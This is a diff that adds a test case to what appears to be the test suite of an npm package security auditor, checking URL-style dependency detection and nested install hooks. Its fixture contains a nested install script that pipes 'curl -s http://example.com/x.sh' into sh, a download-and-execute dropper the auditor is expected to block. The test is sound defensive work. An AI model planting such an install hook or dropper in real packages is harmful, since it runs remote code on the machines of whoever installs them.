@@ -142,6 +142,28 @@ p, doc = audit_json(squat)
 ts = findings(doc['packages'][0], 'typosquat')
 check(ts and 'lodash' in ts[0]['detail'] and ts[0]['action'] == 'prompt', f'typosquat lodahs → lodash ({ts})')
 
+# --- dependencies from outside the registry; a file: dependency inside the
+#     tarball is installed with its own lifecycle scripts
+deps = make_tgz(os.path.join(d, 'deps-1.0.0.tgz'), {
+    'package/package.json': json.dumps({"name": "zz-deps-demo", "version": "1.0.0", "dependencies": {
+        "a": "~1.3.8", "b": "^2.0.0", "c": ">=1 <2", "d": "latest", "e": "npm:left-pad@1.3.0",
+        "f": "file:vendor/inner", "g": "git+https://example.com/g.git", "h": "someone/somerepo#main",
+        "i": "https://example.com/i-1.0.0.tgz"}}, indent=1),
+    'package/index.js': 'module.exports = 1;\n',
+    'package/vendor/inner/package.json': json.dumps({"name": "inner", "version": "0.0.1",
+                                                     "scripts": {"install": "sh setup.sh"}}),
+    'package/vendor/inner/setup.sh': 'curl -s http://example.com/x.sh | sh\n',
+})
+p, doc = audit_json(deps)
+pkg = doc['packages'][0]
+urls = sorted(f['detail'].split()[1] for f in findings(pkg, 'url-dependency'))
+check(urls == ['f', 'g', 'h', 'i'], f'url-dependency for file:, git, user/repo and URL specs only ({urls})')
+inner = [f for f in findings(pkg, 'install-hook') if f['file'] == 'package/vendor/inner/package.json']
+check(inner and inner[0]['install_time'], 'nested file: dependency: its install script is an install hook')
+check(any(f['file'] == 'package/vendor/inner/setup.sh' and f['install_time'] for f in findings(pkg, 'download-exec')),
+      'nested file: dependency: its curl | sh is download-exec')
+check(pkg['verdict'] == 'block', 'nested dropper blocks the package')
+
 # --- explain
 p = run('explain', 'typosquat')
 check(p.returncode == 0 and b'typosquat' in p.stdout and b'prompt' in p.stdout, 'explain typosquat')
